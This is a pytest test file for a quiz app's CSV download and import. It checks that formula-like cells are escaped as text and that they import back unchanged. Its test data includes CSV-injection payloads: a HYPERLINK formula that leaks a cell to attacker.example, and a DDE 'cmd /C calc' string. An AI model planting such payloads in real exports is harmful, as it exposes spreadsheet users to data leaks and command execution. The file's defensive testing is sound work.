"""The own-card CSV download opens in a spreadsheet as text, never as formulas, and imports back unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from questions.models import Topic
from quizapp.own_cards.imports import own_cards_import
from tests.own_cards.test_own_cards import write_card

pytestmark = pytest.mark.usefixtures("english")

# OWASP's "CSV injection" triggers, the examples from the issue, and Markdown that starts like one.
FORMULA_LIKE = [
    ('=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")', "Plain answer."),
    ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1 or -1?", "- a Markdown list\n- of two items"),
    ("What is '=1+1' in a spreadsheet?", "'=1+1 typed with its apostrophe"),
]
# A tab or CR first is neutralised too, though the import's form strips leading whitespace anyway.
WHITESPACE_FIRST = ("\tTabbed question?", "\ran answer after a carriage return")


def cells_of(download) -> list[list[str]]:
    return list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"), newline="")))


def test_it_downloads_formula_cells_as_text(alice, cnn, alice_client):
    for question, answer in [*FORMULA_LIKE, WHITESPACE_FIRST]:
        write_card(alice, cnn, question=question, answer=answer)
    rows = cells_of(alice_client.get("/questions/mine/export.csv"))
    assert len(rows) == 2 + len(FORMULA_LIKE)
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][0] == "'" + FORMULA_LIKE[0][0]
    assert rows[4][1] == "''=1+1 typed with its apostrophe"


def test_it_imports_its_download_back_to_the_same_text(alice, bob, cnn, alice_client):
    for question, answer in FORMULA_LIKE:
        write_card(alice, cnn, question=question, answer=answer)
    download = alice_client.get("/questions/mine/export.csv")
    copies = own_cards_import(owner=bob, content=download.content, file_name="my-cards.csv",
                              default_topic=Topic.objects.get(slug="activations")).created
    originals = alice.own_questions.order_by("id")
    assert [(c.question_en, c.answer_en) for c in copies] == [(o.question_en, o.answer_en) for o in originals]


def test_it_keeps_an_imported_formula_as_text(bob, cnn):
    content = b'question,answer\n"=HYPERLINK(""http://x.example"")",\'- not a list\n'
    [card] = own_cards_import(owner=bob, content=content, file_name="mine.csv", default_topic=cnn).created
    assert (card.question_en, card.answer_en) == ('=HYPERLINK("http://x.example")', "- not a list")
